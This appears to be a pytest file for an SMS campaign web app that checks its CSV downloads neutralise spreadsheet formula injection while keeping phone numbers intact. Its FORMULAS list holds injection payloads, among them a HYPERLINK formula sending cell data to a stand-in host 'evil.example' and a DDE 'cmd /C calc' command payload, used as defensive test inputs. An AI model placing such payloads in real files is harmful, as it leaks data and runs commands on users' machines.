"""Formulas: no cell of a file of ours runs in a spreadsheet, and numbers come back."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from massivesms.store import audit, inbound
from massivesms.store.audit import Actor
from massivesms.store.db import Database
from tests.web.browser import Browser
from tests.web.security.house import House, methods, rules
from tests.web.sending import create_list, numbers_of, spain
from tests.web.sending import csv as file_of

#: The files that can be downloaded as CSV: a new one is tested below too.
EXPORTS = {
    *("lists.load_rows", "campaigns.load_rows", "audit.download"),
    *("lists.blocked_numbers.loads.show_rows", "messages.exports.download"),
    *("lists.exports.sample", "campaigns.bulk.loaded_rows"),
}
#: Those for which a form asks, since the log of changes names them.
AUDITED = {
    *("inbound.export", "lists.blocked_numbers.export"),
    *("messages.exports.create", "lists.exports.create"),
}
STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
]


def table(answer_data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer_data.decode("utf-8-sig"), newline="")))


def is_inert(cell: str) -> bool:
    is_number = cell.startswith("+") and cell[1:].replace(" ", "").isdecimal()
    return is_number or not cell.startswith(STARTS)


def test_every_file_that_can_be_downloaded_is_known(
    app: Flask, client: Browser, house: House
) -> None:
    found = {
        rule.endpoint
        for rule in rules(app)
        if "GET" in methods(rule)
        and client.get(house.address(app, rule)).mimetype == "text/csv"
    }
    assert found == EXPORTS
    token = {"csrf_token": client.token(), "format": "csv"}
    asked = {
        rule.endpoint
        for rule in rules(app)
        if rule.endpoint.endswith((".export", ".create"))
        and "POST" in methods(rule)
        and client.post(house.address(app, rule), data=token).mimetype == "text/csv"
    }
    assert asked == AUDITED


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_rows_not_taken_is_a_formula(
    client: Browser, db: Database, formula: str
) -> None:
    spain(db)
    quoted = '"' + formula.replace('"', '""') + '"'
    file = file_of("number;text", "600111222;x", f"{quoted};{quoted}", f"1;{quoted}")
    values = {"name": "Uno", "source": "file", "file": file}
    client.send("/lists/new", values)
    with db.transaction() as tx:
        load = tx.row("SELECT id, list_id FROM import")
    assert load
    got = client.get(f"/lists/{load['list_id']}/loads/{load['id']}/rows.csv")
    rows = table(got.data)
    assert len(rows) == 3
    assert all(is_inert(cell) for row in rows for cell in row), rows
    assert any(formula.strip() in cell for row in rows for cell in row), "nothing lost"


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_log_of_changes_is_a_formula(
    client: Browser, db: Database, formula: str
) -> None:
    with db.transaction() as tx:
        details = {"source": formula, formula: formula}
        audit.record(tx, Actor(formula[:60]), "list.load", formula, details)
    rows = table(client.get("/configuration/log/changes.csv").data)
    assert all(is_inert(cell) for row in rows for cell in row), rows


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_incoming_messages_is_a_formula(
    client: Browser, db: Database, formula: str
) -> None:
    with db.transaction() as tx:
        inbound.add(tx, inbound.NewInbound(1, "", formula[:32], formula[:32], formula))
    rows = table(client.send("/incoming/incoming.csv").data)
    assert len(rows) == 2
    assert all(is_inert(cell) for row in rows for cell in row), rows
    assert any(formula.strip() in cell for row in rows for cell in row), "nothing lost"


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_list_is_a_formula(
    client: Browser, db: Database, formula: str
) -> None:
    spain(db)
    quoted = '"' + formula.replace('"', '""') + '"'
    file = file_of("number;nombre", f"600111222;{quoted}")
    client.send("/lists/new", {"name": "Uno", "source": "file", "file": file})
    with db.transaction() as tx:
        list_id = tx.value("SELECT id FROM list")
    got = client.send(f"/lists/{list_id}/export", {"format": "csv"})
    rows = table(got.data)
    assert len(rows) == 2
    assert all(is_inert(cell) for row in rows for cell in row), rows
    assert any(formula.strip() in cell for row in rows for cell in row), "nothing lost"


def test_numbers_with_a_plus_stay_and_come_back(client: Browser, db: Database) -> None:
    list_id = create_list(
        db, "Uno", "+34600111222", "+34 600 111 222", "+34 600 111 22"
    )
    with db.transaction() as tx:
        load_id = tx.value("SELECT id FROM import")
    got = client.get(f"/lists/{list_id}/loads/{load_id}/rows.csv")
    assert b"\n3,+34 600 111 22," in got.data.replace(b"\r\n", b"\n"), got.data
    repaired = got.data.replace(b"111 22,", b"111 223,")
    values = {"source": "file", "file": (io.BytesIO(repaired), "repaired.csv")}
    client.send(f"/lists/{list_id}/load", values)
    assert numbers_of(db, list_id) == ["+34600111222", "+34600111223"]
